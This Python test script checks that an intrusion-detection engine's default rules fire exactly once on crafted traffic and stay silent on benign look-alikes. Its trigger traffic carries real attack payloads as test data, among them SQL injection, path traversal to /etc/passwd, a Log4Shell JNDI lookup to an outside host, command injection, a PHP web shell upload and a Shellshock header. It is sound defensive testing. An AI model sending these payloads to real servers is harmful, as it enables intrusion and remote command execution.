#!/usr/bin/env python3
"""The default rule set (rules/vigil.rules): every rule fires on traffic made for it, exactly
once, on the right flow; benign traffic (vigil-gen's mix and near misses) raises nothing.

usage: test_default_rules.py --vigil PATH --gen PATH --rules FILE
"""
import argparse
import collections
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pktlib as P  # noqa: E402

ATT = "203.0.113.66"   # external attacker (TEST-NET-3)
WEB = "10.1.1.80"      # internal web server ($HOME_NET default)
HOST = "10.1.2.3"      # internal client
C2 = "198.51.100.77"   # external controller


def http(cli, srv, req, resp=b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok", port=80, ts=0):
    c = P.TcpConv(cli, 40000 + ts % 20000, srv, port, ts=1_700_000_000_000_000 + ts * 1_000_000)
    c.handshake().send(True, req).send(False, resp).close()
    return c.pkts


def get(uri, extra=b"", ua=b"Mozilla/5.0"):
    return b"GET " + uri + b" HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: " + ua + b"\r\n" + extra + b"\r\n"


def tls_client_hello(sni):
    """A TLS 1.2 ClientHello with a server_name extension."""
    ciphers = [49199, 49195, 49200, 49196, 158, 156, 53, 47]
    cs = b"".join(c.to_bytes(2, "big") for c in ciphers)
    host = sni.encode()
    entry = b"\x00" + len(host).to_bytes(2, "big") + host
    lst = len(entry).to_bytes(2, "big") + entry
    groups = b"\x00\x04\x00\x17\x00\x18"
    ext = (b"\x00\x00" + len(lst).to_bytes(2, "big") + lst +
           b"\x00\x0a" + len(groups).to_bytes(2, "big") + groups +
           b"\x00\x0b\x00\x02\x01\x00")
    body = (b"\x03\x03" + bytes(32) + b"\x00" + len(cs).to_bytes(2, "big") + cs + b"\x01\x00" +
            len(ext).to_bytes(2, "big") + ext)
    hs = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + len(hs).to_bytes(2, "big") + hs


def dns_query(name, qid=0x1234):
    q = qid.to_bytes(2, "big") + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00\x00\x01\x00\x01"


# sid -> list of (packets) that must make it fire once
def triggers():
    t = {}
    t[9100001] = http(ATT, WEB, get(b"/item.php?id=1%20UNION%20ALL%20SELECT%201,2,3"), ts=1)
    t[9100002] = http(ATT, WEB, get(b"/login.php?user=admin'%20or%20'1'='1"), ts=2)
    t[9100003] = http(ATT, WEB, get(b"/download?file=../../../../etc/passwd"), ts=3)
    t[9100004] = http(ATT, WEB, get(b"/files/%2E%2E/secret"), ts=4)
    t[9100005] = http(ATT, WEB, get(b"/?x=${jndi:ldap://198.51.100.9/a}"), ts=5)
    t[9100006] = http(ATT, WEB, get(b"/", b"X-Api-Version: ${jndi:ldap://198.51.100.9/a}\r\n"), ts=6)
    t[9100007] = http(ATT, WEB, get(b"/ping.cgi?host=127.0.0.1;cat%20/etc/hosts"), ts=7)
    t[9100008] = http(ATT, WEB, get(b"/uploads/shell.php?cmd=whoami"), ts=8)
    body = b"<?php system($_GET['c']); ?>"
    t[9100009] = http(ATT, WEB, b"POST /upload HTTP/1.1\r\nHost: shop.example\r\nContent-Length: " +
                      str(len(body)).encode() + b"\r\n\r\n" + body, ts=9)
    t[9100010] = http(ATT, WEB, get(b"/cgi-bin/status", b"Referer: () { :; }; /bin/id\r\n"), ts=10)
    t[9100101] = http(ATT, WEB, get(b"/", ua=b"sqlmap/1.7#stable (https://sqlmap.org)"), ts=11)
    t[9100102] = http(ATT, WEB, get(b"/", ua=b"Mozilla/5.00 (Nikto/2.1.6)"), ts=12)
    t[9100103] = http(ATT, WEB, get(b"/", ua=b"Mozilla/5.0 (compatible; Nmap Scripting Engine)"), ts=13)
    t[9100104] = http(ATT, WEB, get(b"/", ua=b"masscan/1.3"), ts=14)
    base = 1_700_000_100_000_000
    t[9100105] = [(base, P.frame(6, ATT, WEB, sport=50000, dport=22, flags=0x00))]
    t[9100106] = [(base + 1000, P.frame(6, ATT, WEB, sport=50001, dport=23, flags=0x29))]
    t[9100201] = http(HOST, C2, get(b"/a.ps1", ua=b"Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041"), ts=15)
    c = P.TcpConv(HOST, 51515, C2, 443, ts=1_700_000_200_000_000)
    c.handshake().send(True, tls_client_hello("update.duckdns.org")).close()
    t[9100202] = c.pkts
    t[9100203] = [(1_700_000_300_000_000, P.frame(17, HOST, "192.0.2.53", sport=5353, dport=53,
                                                  payload=dns_query("beacon.duckdns.org")))]
    s = P.TcpConv(ATT, 52222, WEB, 22, ts=1_700_000_400_000_000)
    s.handshake().send(False, b"SSH-2.0-OpenSSH_9.2\r\n").send(True, b"SSH-2.0-libssh_0.9.6\r\n").close()
    t[9100204] = s.pkts
    return t


def near_misses():
    """Benign look-alikes that must stay silent."""
    pk = []
    pk += http(HOST, WEB, get(b"/search?q=union+station+select+seats"), ts=40)  # words, no SQL
    pk += http(HOST, WEB, get(b"/docs/etc/passwd-policy.html"), ts=41)          # no traversal
    pk += http(HOST, WEB, get(b"/index.php?page=2"), ts=42)                     # no command param
    pk += http(HOST, WEB, get(b"/", ua=b"Mozilla/5.0 (X11; Linux) Firefox/120.0"), ts=43)
    pk += [(1_700_000_500_000_000, P.frame(17, HOST, "192.0.2.53", sport=5354, dport=53,
                                           payload=dns_query("www.duckdns.org.example.com")))]
    c = P.TcpConv(HOST, 51516, C2, 443, ts=1_700_000_600_000_000)
    c.handshake().send(True, tls_client_hello("duckdns.org.example.net")).close()
    pk += c.pkts
    return pk


def run(vigil, rules, pcap, d):
    r = subprocess.run([vigil, "read", pcap, "-l", d, "-S", rules, "-q"], capture_output=True,
                       text=True, env=dict(os.environ, TZ="UTC"))
    if r.returncode != 0:
        raise AssertionError("vigil failed: %s" % r.stderr)
    return [json.loads(l) for l in open(os.path.join(d, "eve.json"))]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--vigil", required=True)
    ap.add_argument("--gen", required=True)
    ap.add_argument("--rules", required=True)
    a = ap.parse_args()
    sids = [int(m) for m in re.findall(r"\bsid:(\d+);", open(a.rules).read())]
    tmp = tempfile.mkdtemp(prefix="vigil-rules-")
    failed = []
    try:
        trig = triggers()
        missing = sorted(set(sids) - set(trig))
        if missing:
            failed.append("no test traffic for sids %s" % missing)
        for sid, pk in sorted(trig.items()):
            pcap = os.path.join(tmp, "%d.pcap" % sid)
            P.write_pcap(pcap, pk)
            d = os.path.join(tmp, str(sid))
            os.makedirs(d)
            alerts = [e for e in run(a.vigil, a.rules, pcap, d) if e["event_type"] == "alert"]
            got = collections.Counter(e["alert"]["signature_id"] for e in alerts)
            if got != {sid: 1}:
                failed.append("sid %d: expected exactly one alert of it, got %s" % (sid, dict(got)))
            else:
                print("ok   sid %d: %s" % (sid, alerts[0]["alert"]["signature"]))
        pcap = os.path.join(tmp, "benign.pcap")
        subprocess.run([a.gen, "--flows", "3000", "--seed", "3", "-o", pcap], check=True,
                       capture_output=True)
        d = os.path.join(tmp, "benign")
        os.makedirs(d)
        al = [e for e in run(a.vigil, a.rules, pcap, d) if e["event_type"] == "alert"]
        if al:
            failed.append("benign mix raised %d alerts, first: %s" % (len(al), al[0]["alert"]))
        pcap = os.path.join(tmp, "near.pcap")
        P.write_pcap(pcap, near_misses())
        d = os.path.join(tmp, "near")
        os.makedirs(d)
        al = [e for e in run(a.vigil, a.rules, pcap, d) if e["event_type"] == "alert"]
        if al:
            failed.append("near misses raised: %s" % [e["alert"]["signature_id"] for e in al])
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    for f in failed:
        print("FAIL " + f)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
